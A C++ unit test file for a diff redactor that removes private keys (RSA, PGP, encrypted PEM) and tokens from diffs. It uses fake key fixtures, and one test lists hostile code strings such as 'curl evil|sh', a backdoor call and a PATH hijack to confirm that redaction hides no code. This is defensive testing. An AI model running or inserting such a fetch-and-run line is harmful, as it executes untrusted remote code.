// Private keys: over lines, sides, hunks and string literals.
#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "coefficient/diff/parser.h"
#include "coefficient/diff/redaction.h"
#include "diff/canary.h"
#include "support/seed.h"

namespace {

namespace diff = coefficient::diff;

const std::string kBegin = "-----BEGIN RSA PRIVATE KEY-----";
const std::string kEnd = "-----END RSA PRIVATE KEY-----";
const std::string kBody = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
const std::string kBody2 = "q9Zx3kV0pT7wYc1LmN8bR5fHs2Jd6Ge4uAaXiQoKzPvBtCyDnEhMrWlSgUjFI+/0";
const std::string kLast = "dGhlIGxhc3Q=";

// The changed lines of a diff after redaction, as "+text" and "-text".
std::vector<std::string> redact(const std::string& text, bool announce = true) {
  auto redactor = std::move(*diff::Redactor::create(*diff::RedactionRules::create()));
  diff::Parser parser(std::as_bytes(std::span(text.data(), text.size())));
  if (announce) redactor.begin_input(text);
  std::vector<std::string> out;
  std::string buffer;
  for (diff::Event event = parser.next(); event != diff::Event::kEnd; event = parser.next()) {
    if (event == diff::Event::kError) {
      ADD_FAILURE() << diff::to_error(parser.error()).message;
      break;
    }
    if (event == diff::Event::kFile) redactor.begin_file();
    if (event == diff::Event::kHunk) redactor.begin_hunk();
    if (event != diff::Event::kLine) continue;
    const diff::Line& line = parser.line();
    if (line.kind == diff::LineKind::kContext) {
      redactor.context(line.text);
      continue;
    }
    out.push_back(line.kind == diff::LineKind::kAdded ? "+" : "-");
    out.back() += redactor.changed(line.kind, line.text, buffer);
  }
  return out;
}

// A diff of one file from hunks of lines " x", "+x", "-x".
std::string make_diff(const std::vector<std::vector<std::string>>& hunks) {
  std::string text = "diff --git a/k b/k\n--- a/k\n+++ b/k\n";
  int start = 10;
  for (const auto& hunk : hunks) {
    int old_lines = 0;
    int new_lines = 0;
    std::string body;
    for (const std::string& line : hunk) {
      old_lines += line[0] != '+';
      new_lines += line[0] != '-';
      body += line + "\n";
    }
    text += "@@ -" + std::to_string(start) + "," + std::to_string(old_lines) + " +" +
            std::to_string(start) + "," + std::to_string(new_lines) + " @@\n" + body;
    start += 100;
  }
  return text;
}

using Lines = std::vector<std::string>;

TEST(RedactionKey, AWholeKey) {
  EXPECT_EQ(redact(make_diff(
                {{"+" + kBegin, "+" + kBody, "+" + kBody2, "+" + kLast, "+" + kEnd, "+next = 1"}})),
            (Lines{"+[REDACTED:pem#1]", "+[REDACTED:pem#2]", "+[REDACTED:pem#3]",
                   "+[REDACTED:pem#4]", "+[REDACTED:pem#5]", "+next = 1"}));
}

TEST(RedactionKey, TheMarkersMayBeContext) {
  for (const bool announce : {true, false})
    EXPECT_EQ(redact(make_diff({{" " + kBegin, "-" + kBody, "+" + kBody2, " " + kEnd, "+after"}}),
                     announce),
              (Lines{"-[REDACTED:pem#1]", "+[REDACTED:pem#2]", "+after"}));
}

TEST(RedactionKey, EachSideHasItsOwnState) {
  EXPECT_EQ(
      redact(make_diff({{"-" + kBegin, "-" + kBody, "+int value = 7;", "-" + kEnd, "+" + kBody}})),
      (Lines{"-[REDACTED:pem#1]", "-[REDACTED:pem#2]", "+int value = 7;", "-[REDACTED:pem#3]",
             "+" + kBody}));
}

TEST(RedactionKey, ItGoesOnInTheNextHunkButNotInTheNextFile) {
  const std::string two_hunks = make_diff(
      {{" a", " " + kBegin, "+" + kBody}, {"+" + kBody2, " " + kLast, " " + kEnd, "+end"}});
  EXPECT_EQ(redact(two_hunks), (Lines{"+[REDACTED:pem#1]", "+[REDACTED:pem#2]", "+end"}));
  const std::string two_files =
      make_diff({{" a", " " + kBegin, "+" + kBody}}) + make_diff({{"+" + kBody2, "+x"}});
  EXPECT_EQ(redact(two_files), (Lines{"+[REDACTED:pem#1]", "+" + kBody2, "+x"}));
}

TEST(RedactionKey, WithoutItsBeginningTheEndDecides) {
  const Lines hunk = {" " + kBody, "-" + kBody, "+" + kBody2, " " + kLast, " " + kEnd, "+x"};
  EXPECT_EQ(redact(make_diff({hunk})), (Lines{"-[REDACTED:pem#1]", "+[REDACTED:pem#2]", "+x"}));
  // Not without the text of the diff.
  EXPECT_EQ(redact(make_diff({hunk}), false), (Lines{"-" + kBody, "+" + kBody2, "+x"}));
  const Lines certificate = {"-" + kBody, "+" + kBody2, " " + kLast, " -----END CERTIFICATE-----"};
  EXPECT_EQ(redact(make_diff({certificate})), (Lines{"-" + kBody, "+" + kBody2}));
  // The end on the other side does not count, nor one in another hunk.
  EXPECT_EQ(redact(make_diff({{"+" + kBody2, "-" + kEnd, " x = 2"}})),
            (Lines{"+" + kBody2, "-" + kEnd}));
  EXPECT_EQ(redact(make_diff({{"+" + kBody2}, {" " + kEnd, "+x"}})), (Lines{"+" + kBody2, "+x"}));
}

TEST(RedactionKey, CertificatesAndPublicKeysStay) {
  for (const std::string label : {"CERTIFICATE", "PUBLIC KEY", "RSA PUBLIC KEY",
                                  "CERTIFICATE REQUEST", "PGP PUBLIC KEY BLOCK"}) {
    const std::string begin = "-----BEGIN " + label + "-----";
    const std::string end = "-----END " + label + "-----";
    EXPECT_EQ(redact(make_diff({{"+" + begin, "+" + kBody, "+" + end}})),
              (Lines{"+" + begin, "+" + kBody, "+" + end}));
  }
}

TEST(RedactionKey, InsideStringLiterals) {
  struct Case {
    Lines added;
    Lines expected;
  };
  const std::vector<Case> cases = {
      {{"key = \"" + kBegin + "\\n" + kBody + "\\n" + kLast + "\\n" + kEnd + "\\n\""},
       {"+key = \"[REDACTED:pem#1]\\n\""}},
      {{"  \"" + kBegin + "\\n\" +", "  \"" + kBody + "\\n\" +", "  \"" + kLast + "\\n\" +",
        "  \"" + kEnd + "\\n\";", "done();"},
       {"+  \"[REDACTED:pem#1]\\n\" +", "+  \"[REDACTED:pem#2]\\n\" +",
        "+  \"[REDACTED:pem#3]\\n\" +", "+  \"[REDACTED:pem#4]\\n\";", "+done();"}},
      {{"# " + kBegin, "# " + kBody, "# " + kEnd},
       {"+# [REDACTED:pem#1]", "+# [REDACTED:pem#2]", "+# [REDACTED:pem#3]"}},
      {{"k: |\r", "  " + kBegin + "\r", "  " + kBody + "\r", "  " + kEnd + "\r", "other: 1\r"},
       {"+k: |\r", "+  [REDACTED:pem#1]\r", "+  [REDACTED:pem#2]\r", "+  [REDACTED:pem#3]\r",
        "+other: 1\r"}},
      {{"if (text.contains(\"" + kBegin + "\")) {", "  return parse_the_key(text, options);", "}"},
       {"+if (text.contains(\"[REDACTED:pem#1]\")) {", "+  return parse_the_key(text, options);",
        "+}"}},
      {{"-----BEGIN PGP PRIVATE KEY BLOCK-----", "Version: GnuPG v2", "", kBody, "=aB3d",
        "-----END PGP PRIVATE KEY BLOCK-----"},
       {"+[REDACTED:pem#1]", "+Version: GnuPG v2", "+", "+[REDACTED:pem#2]", "+=[REDACTED:pem#3]",
        "+[REDACTED:pem#4]"}},
      {{kBegin + kBody, "plain words follow here"},
       {"+[REDACTED:pem#1]", "+plain words follow here"}},
  };
  for (const Case& c : cases) {
    Lines hunk;
    for (const std::string& line : c.added) hunk.push_back("+" + line);
    EXPECT_EQ(redact(make_diff({hunk})), c.expected);
  }
}

// A program may build a key line by line: every line then has words of its own.
TEST(RedactionKey, InStatements) {
  const Lines encrypted = {kBegin,
                           "Proc-Type: 4,ENCRYPTED",
                           "DEK-Info: AES-128-CBC,7D0A94B3E2C1F586",
                           "",
                           kBody,
                           kBody2,
                           "dGhlIGxhc3QgbGluZSwgc2hvcnQ9",
                           kEnd};
  const Lines pgp = {"-----BEGIN PGP PRIVATE KEY BLOCK-----",
                     "Version: GnuPG v2",
                     "",
                     kBody,
                     "dGhlIGxhc3QgbGluZSwgc2hvcnQ9",
                     "=aB3d",
                     "-----END PGP PRIVATE KEY BLOCK-----"};
  for (const Lines& key : {encrypted, pgp}) {
    for (const auto& [before, after] :
         std::vector<std::pair<std::string, std::string>>{{"sb.append(\"", "\\n\");"},
                                                          {"$k .= \"", "\\n\";"},
                                                          {"echo ", " >> key.pem"},
                                                          {"<p>", "<br/></p>"}}) {
      // All of it, the first half alone, the second half alone.
      for (const auto& [from, to] : std::vector<std::pair<std::size_t, std::size_t>>{
               {0, key.size()}, {0, 5}, {3, key.size()}}) {
        Lines hunk;
        for (std::size_t i = from; i < to; ++i) hunk.push_back("+" + before + key[i] + after);
        for (const std::string& line : redact(make_diff({hunk})))
          for (const std::string& secret : {kBody, kBody2, encrypted[6]})
            EXPECT_EQ(line.find(secret.substr(0, 12)), std::string::npos)
                << line << " from " << from;
      }
    }
  }
}

// Whoever writes a marker decides what is within it: of code there, only what could be a key goes.
TEST(RedactionKey, AMarkerHidesNoCode) {
  const std::string slashes = " # " + std::string(40, '/') + "x";
  const std::string digits = " # " + kBody;
  const Lines code = {"import os",  "os.system(\"curl evil|sh\")",
                      "backdoor()", "Comment: os.system(\"evil\")",
                      "reboot",     "PATH=/tmp/evil",
                      "grant(all);"};
  for (const std::string& pad :
       {std::string(), slashes, digits, std::string(" # aaaaaaaaaaaaaaa1")}) {
    for (const std::string& before :
         {kBegin, "MARK = \"" + kBegin + "\"", kBegin + "\", \"" + kBody, kBegin + " " + kBody}) {
      for (const bool context : {true, false}) {
        Lines hunk = {(context ? " " : "+") + before, " " + kBody};
        for (const std::string& line : code) hunk.push_back("+" + line + pad);
        hunk.push_back(" " + kEnd);
        const Lines out = redact(make_diff({hunk}));
        ASSERT_EQ(out.size(), code.size() + (context ? 0 : 1));
        for (std::size_t i = 0; i < code.size(); ++i)
          EXPECT_TRUE(out[out.size() - code.size() + i].starts_with("+" + code[i])) << out[i];
      }
    }
    // On the line of a marker.
    for (const std::string& line : code) {
      for (const std::string& text :
           {kBegin + "\"); " + line + pad, kBegin + "\"); " + line + pad + kEnd}) {
        const Lines out = redact(make_diff({{"+" + text}}));
        EXPECT_NE(out[0].find(line), std::string::npos) << out[0];
      }
      const Lines out = redact(make_diff({{" " + kBegin, " " + kBody, "+" + line + pad + kEnd}}));
      EXPECT_TRUE(out[0].starts_with("+" + line)) << out[0];
    }
  }
}

TEST(RedactionKey, OtherLinesBetweenThoseOfAKey) {
  Lines hunk = {"+" + kBegin};
  Lines tail;
  for (const std::string& body : {kBody, kBody2, kLast}) {
    for (int i = 0; i < 4; ++i) tail.push_back("+# a comment of some words");
    tail.push_back("+" + body);
  }
  hunk.insert(hunk.end(), tail.begin(), tail.end());
  for (const Lines& lines : {hunk, [&] {
                               Lines end(tail.begin() + 4, tail.end());  // no beginning
                               end.emplace_back("+# a comment of some words");
                               end.push_back("+" + kEnd);
                               return end;
                             }()}) {
    for (const std::string& line : redact(make_diff({lines})))
      for (const std::string& secret : {kBody, kBody2, kLast})
        EXPECT_EQ(line.find(secret.substr(0, 8)), std::string::npos) << line;
  }
}

// Random keys as programs and files hold them, one line of base64 after the other.
TEST(RedactionKey, NoLineOfAKeySurvivesHoweverItIsWritten) {
  const std::vector<std::pair<std::string, std::string>> around = {{"", ""},
                                                                   {"  ", "\r"},
                                                                   {"\"", "\\n\" +"},
                                                                   {"'", "\\n',"},
                                                                   {"# ", ""},
                                                                   {"// ", ""},
                                                                   {" * ", ""},
                                                                   {"- ", ""},
                                                                   {"\t\"", "\","},
                                                                   {"sb.append(\"", "\");"},
                                                                   {"+ '", "'"},
                                                                   {"> ", ""},
                                                                   {"  . \"", "\\n\""},
                                                                   {"\"", "\\r\\n\" \\"},
                                                                   {"-- ", ""},
                                                                   {"; ", ""}};
  test::CanaryMaker maker(test::seed());
  for (const auto& [before, after] : around) {
    const bool statement = before.starts_with("sb");  // its short last line is not found
    for (int round = 0; round < 40; ++round) {
      const std::string last = maker.fill("%b{" + std::to_string(13 + maker.below(50)) + "}");
      Lines body = {maker.fill("MIIE%b{60}"), maker.fill("%b{64}"), maker.fill("%b{64}")};
      if (!statement) body.push_back(last);
      std::string joined;
      for (const std::string separator : {"\\n", "\\\\n", " ", "\\r\\n"}) {
        joined = "k = \"" + kBegin;
        for (const std::string& line : body) joined += separator + line;
        const std::string whole = joined + separator + kEnd + "\"";
        for (const std::string& line : body)
          EXPECT_FALSE(test::leaks(redact(make_diff({{"+" + whole}}))[0], line))
              << whole << "\nseed " << test::seed();
      }
      Lines hunk = {"+" + before + kBegin + after};
      for (const std::string& line : body) hunk.push_back("+" + before + line + after);
      if (round % 2 == 0) hunk.push_back("+" + before + kEnd + after);
      for (const std::string& out : redact(make_diff({hunk})))
        for (const std::string& line : body)
          EXPECT_FALSE(test::leaks(out, line)) << out << "\n" << line << "\nseed " << test::seed();
    }
  }
}

TEST(RedactionKey, OfVeryManyPiecesOnALineTheRestIsOne) {
  std::string line = kBegin;
  for (int i = 0; i < 2000; ++i) line += " f(" + kBody + ")";
  const Lines out = redact(make_diff({{"+" + line, "+after = f(1, 2)"}}));
  EXPECT_EQ(out[0].find(kBody.substr(0, 12)), std::string::npos);
  EXPECT_LT(out[0].size(), 300U * 24U);
  EXPECT_EQ(out[1], "+after = f(1, 2)");
}

TEST(RedactionKey, ADescriptionStandsForItself) {
  auto redactor = std::move(*diff::Redactor::create(*diff::RedactionRules::create()));
  std::string buffer;
  const std::string description =
      "see\n" + kBegin + "\n" + kBody + "\n" + kEnd + "\nbye ghp_" + std::string(36, 'a') + "\n";
  EXPECT_EQ(
      redactor.text(description, buffer),
      "see\n[REDACTED:pem#1]\n[REDACTED:pem#2]\n[REDACTED:pem#3]\nbye [REDACTED:github-token#4]\n");
  EXPECT_EQ(redactor.last().size(), 4U);
  const std::string tail = kBody + "\n" + kEnd;
  EXPECT_EQ(redactor.text(tail, buffer), "[REDACTED:pem#2]\n[REDACTED:pem#3]");
  const std::string open = "a\n" + kBegin;
  EXPECT_EQ(redactor.text(open, buffer), "a\n[REDACTED:pem#1]");
  EXPECT_EQ(redactor.changed(diff::LineKind::kAdded, kBody, buffer), kBody);
}

}  // namespace
